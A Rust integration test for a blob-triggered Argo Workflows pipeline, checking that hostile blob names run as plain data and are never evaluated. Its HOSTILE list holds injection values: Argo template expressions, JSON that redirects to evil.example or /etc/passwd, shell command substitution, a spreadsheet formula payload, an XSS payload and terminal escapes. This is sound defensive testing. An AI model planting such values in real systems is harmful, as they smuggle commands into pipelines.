//! A blob's name is never code: whatever it is, its dataset runs as itself, and nothing in it is evaluated.

use std::{collections::BTreeSet, fs, time::Duration};

use anyhow::{Context, Result, ensure};
use azure_blob_eventsource::event::encoded::{decoded, encoded};
use serde_json::Value;

use super::restarts::has_no_dead_letter;
use crate::{
    cluster::repository,
    stage::Stage,
    wait::until,
    witness::{Seen, Version},
};

/// Names that Argo Workflows evaluates, that break its JSON, or that Kubernetes, shells, URL parsers, terminals or
/// the Argo UI give a meaning to. Azurite cannot keep a backslash or a character that XML has not, such as U+0001;
/// unit tests have those.
pub(super) const HOSTILE: &[&str] = &[
    // Argo's expressions and parameters.
    "{{=1+1}}",
    "{{workflow.name}}",
    "{{workflow.parameters.endpoint}}",
    "{{=1+}}",
    "{{=sprig.fail(\"x\")}}",
    "{{=len(sprig.repeat(2000000000,\"a\"))}}",
    "{{=sprig.genPrivateKey(\"rsa\")}}",
    "{{=sprig.getHostByName('localhost')}}",
    "{{=sprig.env(\"PATH\")}}",
    "{{inputs.parameters.blob}}",
    "{{pod.name}}",
    "{{item}}",
    "{{retries}}",
    "{{= workflow.parameters }}",
    "{{{{=1+1}}}}",
    "{{",
    "}}",
    "{{=",
    "{{-}}",
    "%7B%7B=1+1%7D%7D",
    "{%7B=1+1}}",
    "{{ .Input.body.id }}",
    "{{`{{=1+1}}`}}",
    // JSON, with what follows the blob in an artifact.
    "\",\"endpoint\":\"https://evil.example\",\"useSDKCreds\":true,\"blob\":\"z{{='{'+'{workflow.parameters.blob}'+'}'}}",
    "\",\"path\":\"/etc/passwd\",\"mode\":511,\"x\":\"",
    "\"",
    "\"}]}",
    "\u{7f}",
    "\u{85}\u{9b}31m",
    "tab\tnewline\nreturn\r",
    // Kubernetes, shells and programs.
    "$(KUBERNETES_SERVICE_HOST)",
    "$$(PATH)$$",
    "`id`;$(id)&|<>'",
    "-rf --endpoint=https://evil.example",
    "~",
    "*?[a-z]!#",
    "@file",
    "=cmd|' /C calc'!A0",
    // The Argo UI, and terminals.
    "[click](https://evil.example)",
    "<img src=x onerror=alert(1)>",
    "https://evil.example",
    "``` # **bold**",
    "\u{202e}vsc",
    "\u{9b}2J\u{9d}0;owned\u{9c}",
    // URLs, and what looks encoded already.
    "100%",
    "%41%2F..%2F",
    "a+b?c=d#e&f",
    "../up",
    "./here//there",
    // Languages and long names.
    "données été",
    "日本語 עברית",
    "\u{1f600}\u{e0001}\u{f0000}",
    " leading and trailing ",
    "null",
    "0x10",
    "[1, 2]",
];
/// Datasets of every day, uploaded after them.
const PLAIN: usize = 10;
/// A Workflow of all steps takes about a quarter of a minute, and twenty share the machine.
const PATIENCE: Duration = Duration::from_secs(1200);
/// More than Azure Storage has; Azurite takes it.
const TOO_LONG: usize = 1100;

/// Hostile names, then plain ones: every dataset has its one Workflow, and every Workflow succeeds.
pub(crate) async fn are_not_code(stage: &Stage) -> Result<()> {
    let content = fs::read(repository().join("examples/data/machines.csv"))?;
    let mut names: Vec<_> = HOSTILE
        .iter()
        .map(|name| format!("raw/{name}.csv"))
        .collect();
    names.push(format!("raw/{}.csv", "x".repeat(1016)));
    names.push(format!("raw/{}/x.csv", "{{=1+1}}/".repeat(100)));
    names.extend((1..=PLAIN).map(|number| format!("raw/plain-{number}.csv")));
    let mut versions = Vec::new();
    for name in &names {
        versions.push(stage.storage.put(name, content.clone()).await);
    }
    let long = format!("raw/{}.csv", "x".repeat(TOO_LONG));
    let refused = stage.storage.put(&long, content).await;
    stage.say.line(format!(
        "{} names are there, and one that is too long",
        names.len()
    ));
    stage.comes_to_exactly_within(&versions, PATIENCE).await?;
    succeed(stage, versions.len()).await?;
    for seen in stage.witness.all() {
        is_plain_text(&seen)?;
    }
    for version in &versions {
        has_results(stage, version).await?;
    }
    stage
        .explains(&refused, 1, "Azure Storage does not allow such a name")
        .await?;
    has_no_dead_letter(stage).await?;
    stage
        .say
        .line("each Workflow succeeded on its own dataset, and each model has its name");
    Ok(())
}

/// Waits until all Workflows have ended, and all of them well.
pub(super) async fn succeed(stage: &Stage, count: usize) -> Result<()> {
    let look = async || {
        let text = stage.kubectl(&["get", "workflows", "-o", "json"]).await?;
        let all: Value = serde_json::from_str(&text)?;
        let all = all["items"].as_array().context("no list")?;
        let phases: Vec<_> = all
            .iter()
            .map(|it| it["status"]["phase"].as_str().unwrap_or("none"))
            .collect();
        for (workflow, phase) in all.iter().zip(&phases) {
            if ["Failed", "Error"].contains(phase) {
                // Waiting longer would not fix it.
                let (name, why) = (
                    &workflow["metadata"]["name"],
                    &workflow["status"]["message"],
                );
                return Ok(Err(anyhow::anyhow!("{name} has {phase}: {why}")));
            }
        }
        let succeeded = phases.iter().filter(|it| **it == "Succeeded").count();
        ensure!(succeeded == count, "{succeeded} of {count} have succeeded");
        Ok(Ok(()))
    };
    until("all Workflows succeed", PATIENCE, look).await?
}

/// Whether all that a Workflow has of its event is what the event said, with nothing in it to evaluate.
fn is_plain_text(seen: &Seen) -> Result<()> {
    let version = seen.version();
    let name = encoded(&version.blob);
    let argument = |name: &str| seen.arguments.get(name).map_or("", String::as_str);
    ensure!(argument("blob") == name, "the argument of {seen:?}");
    let title = seen.annotations.get("workflows.argoproj.io/title");
    ensure!(
        title.is_some_and(|title| *title == format!("`datasets/{name}`")),
        "the title of {seen:?}"
    );
    has_no_code(seen)
}

/// Whether nothing that a Workflow has of its event can be evaluated. Its title has backticks of the Sensor's own.
pub(super) fn has_no_code(seen: &Seen) -> Result<()> {
    let title = seen.annotations.get("workflows.argoproj.io/title");
    let texts = seen.arguments.values().chain(seen.annotations.values());
    for text in texts.filter(|text| Some(*text) != title) {
        let code =
            text.contains(['{', '}', '"', '\\', '$', '`']) || text.chars().any(char::is_control);
        ensure!(!code, "{text:?} of {seen:?}");
    }
    Ok(())
}

/// Whether a run's model and report are there under its own name, and the report is about its blob.
async fn has_results(stage: &Stage, version: &Version) -> Result<()> {
    let seen = stage.witness.all();
    let seen = seen.iter().find(|it| it.version() == *version);
    let seen = seen.context("no Workflow")?;
    let result = seen.arguments.get("result").context("no result")?;
    let names: BTreeSet<_> = ["quantized.onnx", "report.html"]
        .map(|it| format!("model-{result}-{it}"))
        .into();
    for name in &names {
        for name in [name.clone(), format!("runs/{}/{name}", seen.name)] {
            ensure!(
                stage.storage.result(&name).await.is_some(),
                "there is no models/{name} of {:?}",
                decoded(&version.blob)
            );
        }
    }
    Ok(())
}
